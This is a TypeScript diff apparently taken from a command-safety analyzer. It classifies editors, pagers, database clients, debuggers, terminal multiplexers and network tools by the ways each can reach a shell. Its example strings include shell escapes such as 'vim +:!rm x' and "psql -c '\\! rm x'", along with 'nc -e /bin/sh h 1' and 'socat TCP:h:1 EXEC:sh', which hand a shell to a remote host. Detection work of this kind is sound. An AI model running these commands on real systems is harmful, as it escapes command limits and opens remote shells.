@@ -1,0 +1,258 @@
+import { literalOf } from '../word.ts';
+import type { Arguments, Command, Meaning, Refinement } from './model.ts';
+import { used } from './model.ts';
+import { escapedCommands, shellEscapes } from './shell-escapes.ts';
+
+const talks = { does: 'acts', suggest: 'exact' } as const;
+
+/** What is opened in an editor is read, and written when the editor says so. */
+function opened(args: Arguments): Refinement {
+  const files = args.operands.filter(({ word, after }) => after === true || !isFirstCommand(literalOf(word)));
+  return {
+    touches: files.map(({ word }) => ({ access: 'read', word })),
+    escalations: args.operands
+      .filter(({ word, after }) => after !== true && isFirstCommand(literalOf(word)))
+      .map(({ at }) => ({ at, why: 'a command to begin with' })),
+  };
+}
+
+/** `less +!id`, `vim +:!id`. A number is a line. */
+function isFirstCommand(text: string | undefined): boolean {
+  return text !== undefined && /^\+(?!\d*$)/u.test(text);
+}
+
+/** Shell text behind the `!` of a first command: `vim '+!rm x'`. Editors read commands from standard input too. */
+function begun(args: Arguments, here?: string): readonly Meaning[] {
+  const typed =
+    here === undefined ? [] : escapedCommands(args, here).filter(({ at }) => at === args.words.length);
+  const first = args.operands.flatMap(({ word, at }) => {
+    const text = literalOf(word) ?? '';
+    const shell = isFirstCommand(text) ? /^\+[^!]{0,40}!(.+)$/su.exec(text)?.[1] : undefined;
+    return shell === undefined ? [] : [{ shell, at }];
+  });
+  return [...first, ...typed];
+}
+
+/** Sub-commands of tmux that hand words to a shell, by their shortest and full names. */
+const tmuxRuns =
+  /^(?:new|new-session|neww|new-window|splitw|split-window|respawnp|respawn-pane|respawnw|respawn-window|run|run-shell|if|if-shell|send|send-keys|pipep|pipe-pane|popup|display-popup|bind|bind-key|set-hook|source|source-file)$/u;
+
+function tmuxRun(args: Arguments): Refinement | undefined {
+  const [name, ...rest] = args.operands;
+  const first = rest[0];
+  if (first === undefined || !tmuxRuns.test(literalOf(name?.word) ?? 'run')) return undefined;
+  return { does: 'acts', escalations: [{ at: first.at, why: 'runs a command in a terminal' }] };
+}
+
+/** Programs that a person talks to: editors, pagers, debuggers, terminals and clients, each with a way into a shell. */
+export const dialogues: readonly Command[] = [
+  {
+    names: ['vim', 'vi', 'nvim', 'gvim', 'view', 'vimdiff', 'ex', 'ed'],
+    ...talks,
+    options: '-bdDeEhlLmMnNRvVxXyZ -pOo? -T: -i:read -s? -t: -q:read -r? -P: --clean --headless --noplugin',
+    escalating: [
+      { options: '-c:code --cmd:code -S:code', why: 'a command to begin with' },
+      { options: '-u:read -U:read -w:write -W:write', why: 'reads commands from a file, or writes one' },
+    ],
+    operands: { rest: 'write' },
+    prints: '--version',
+    refine: opened,
+    means: begun,
+    examples: {
+      escalates: ["vim '+:!id' x", "vim -c '!id' -c q", 'vim -u x y', "ex -c '!id' x"],
+      acts: ['vim x', 'vim +12 x', 'ed -s x'],
+      reads: ['vim --version'],
+      carries: [["vim '+:!rm x' y", 'rm x']],
+      touches: [['vim a', 'write a, read a']],
+    },
+  },
+  {
+    names: [
+      'emacs',
+      'nano',
+      'pico',
+      'code',
+      'subl',
+      'hx',
+      'micro',
+      'kak',
+      'less',
+      'more',
+      'most',
+      'info',
+      'pg',
+      'w3m',
+      'lynx',
+      'links',
+      'mc',
+      'ranger',
+      'fzf',
+      'sk',
+      'dialog',
+      'top',
+      'htop',
+      'btop',
+      'lazygit',
+      'tig',
+      'gitk',
+      'k9s',
+    ],
+    ...talks,
+    changing: '--eval:code --execute:code',
+    operands: { rest: 'write' },
+    prints: '--version',
+    refine: opened,
+    means: begun,
+    examples: {
+      acts: ['nano x', 'less README.md', 'less -o log x', "emacs --batch --eval '(x)'"],
+      escalates: ['less +!id x'],
+      reads: ['nano --version'],
+      carries: [["less '+!rm x' y", 'rm x']],
+      touches: [['less .env', 'write .env, read .env']],
+    },
+  },
+  {
+    names: ['psql', 'mysql', 'mariadb', 'sqlite3', 'duckdb'],
+    ...talks,
+    escalating: [{ options: '--pager: --init-command: --plugin-dir:', why: 'runs a program or loads code' }],
+    operands: { rest: 'text' },
+    means: escapedCommands,
+    prints: '--version --help',
+    refine: (args) => {
+      // Only the clients of SQLite read these words so; to others `-init` is a bundle of letters.
+      const file = ['sqlite3', 'duckdb'].includes(args.path[0] ?? '');
+      const init = file
+        ? args.words.findIndex((word) => /^--?(?:init|cmd)$/u.test(literalOf(word) ?? ''))
+        : -1;
+      const [database] = file ? args.operands : [];
+      const found = shellEscapes(args);
+      return {
+        ...found,
+        escalations: [
+          ...(found?.escalations ?? []),
+          ...(init === -1 ? [] : [{ at: init, why: 'commands that run first' }]),
+        ],
+        touches: database === undefined ? [] : [{ access: 'write', word: database.word }],
+      };
+    },
+    examples: {
+      acts: ["psql -c 'select 1'", 'sqlite3 x.db .tables', "mysql -e 'select 1'", 'psql -f x.sql'],
+      escalates: [
+        "psql -c '\\! id'",
+        'psql -c "\\copy t to program \'id\'"',
+        "sqlite3 x.db '.shell id'",
+        "sqlite3 x.db '.once |id'",
+        'sqlite3 x.db "select load_extension(\'x\')"',
+        'sqlite3 -init x y.db',
+        "mysql -e 'system id'",
+        'mysql --pager=./x',
+      ],
+      reads: ['psql --version'],
+      carries: [
+        ["psql -c '\\! rm x'", 'rm x'],
+        ["sqlite3 x.db <<< '.shell rm x'", 'rm x'],
+        ["mysql -e 'system rm x'", 'rm x'],
+      ],
+      touches: [['sqlite3 x.db .tables', 'write x.db']],
+    },
+  },
+  {
+    names: ['gdb', 'lldb', 'rr', 'dlv', 'pdb'],
+    ...talks,
+    style: 'words',
+    escalating: [
+      {
+        options: '-x:read --command:read -ix:read -s:read -S:read --source:read',
+        why: 'commands from a file',
+      },
+    ],
+    operands: { rest: 'code' },
+    refine: shellEscapes,
+    examples: {
+      acts: ['gdb -batch -ex bt ./app core'],
+      escalates: ["gdb -batch -ex 'shell id'", "gdb -ex '!id'", 'gdb -x x.gdb ./app'],
+    },
+  },
+  {
+    names: ['expect'],
+    ...talks,
+    escalating: [{ options: '-c:code', why: 'runs what its text spawns' }],
+    options: '-bdDiNnv -f:read',
+    operands: { first: ['read'], rest: 'text' },
+    examples: { acts: ['expect x.exp'], escalates: ["expect -c 'spawn id'"] },
+  },
+  {
+    names: ['tmux'],
+    ...talks,
+    options: '-2CdDklNPuvVAXbZ -cnstxyeFT: -L: -f:read -S:',
+    operands: { rest: 'code' },
+    refine: tmuxRun,
+    examples: {
+      acts: ['tmux ls', 'tmux new-session -d -s x', 'tmux kill-session -t x'],
+      escalates: ["tmux new -d 'id'", 'tmux send-keys x Enter', 'tmux run-shell id'],
+    },
+  },
+  {
+    names: ['screen'],
+    ...talks,
+    options: '-adDfiLmOqQRrwx -S: -p: -T: -h: -t: -e: -s:',
+    escalating: [{ options: '-X -c:read', why: 'runs a command in a terminal' }],
+    operands: { rest: 'code' },
+    refine: (args) => {
+      const first = used(args, '-r', '-x', '-R') ? undefined : args.operands[0];
+      return first === undefined
+        ? undefined
+        : { escalations: [{ at: first.at, why: 'runs a command in a terminal' }] };
+    },
+    examples: { acts: ['screen -r x', 'screen -S x'], escalates: ['screen -dm id', 'screen -X stuff id'] },
+  },
+  {
+    names: ['socat'],
+    ...talks,
+    operands: { rest: 'code' },
+    also: [{ kind: 'network', what: 'an address of socat' }],
+    refine: (args) => ({
+      escalations: args.operands
+        .filter(({ word }) =>
+          /^(?:exec|system|shell|open|creat\w*|gopen|file)\b/iu.test(literalOf(word) ?? 'exec'),
+        )
+        .map(({ at }) => ({ at, why: 'an address that is a program or a file' })),
+    }),
+    examples: { acts: ['socat - TCP:h:80'], escalates: ['socat TCP:h:1 EXEC:sh', 'socat - OPEN:x'] },
+  },
+  {
+    names: ['nc', 'ncat', 'netcat'],
+    ...talks,
+    options: '-46bCdDFhklnNrStuUvzZ -iIMmopPqsTVwxX: --listen --udp --verbose --ssl --recv-only --send-only',
+    escalating: [
+      { options: '-c:shell --sh-exec:shell', why: 'runs a command for whoever connects' },
+      { options: '-e:program --exec:program --lua-exec:read', why: 'runs a program for whoever connects' },
+      { options: '--output:write --hex-dump:write', why: 'writes a file' },
+    ],
+    operands: { first: ['host'], rest: 'text' },
+    examples: {
+      acts: ['nc -l 80', 'nc -zv h 80'],
+      escalates: ['nc -e /bin/sh h 1', 'ncat --sh-exec id h 1'],
+    },
+  },
+  {
+    names: ['sftp'],
+    ...talks,
+    options: '-46AaCfNpqrv -BcilPRsX:',
+    escalating: [{ options: '-o: -S:shell -D:shell -F:read -J:', why: 'can name a program that runs here' }],
+    operands: { rest: 'remote-from' },
+    examples: { acts: ['sftp h'], escalates: ['sftp -S ./x h', 'sftp -o ProxyCommand=x h'] },
+  },
+  {
+    names: ['ssh-keygen'],
+    ...talks,
+    options: '-ABcegHhiKkLlopqUuvy -f:write -CNtbPmEFRIVnOrsYazZ:',
+    escalating: [{ options: '-D:program -w:program', why: 'loads a library' }],
+    operands: { rest: 'text' },
+    examples: {
+      acts: ['ssh-keygen -t ed25519 -f key'],
+      escalates: ['ssh-keygen -D ./x.so'],
+      touches: [['ssh-keygen -t x -f config/k', 'write config/k']],
+    },
+  },
+];
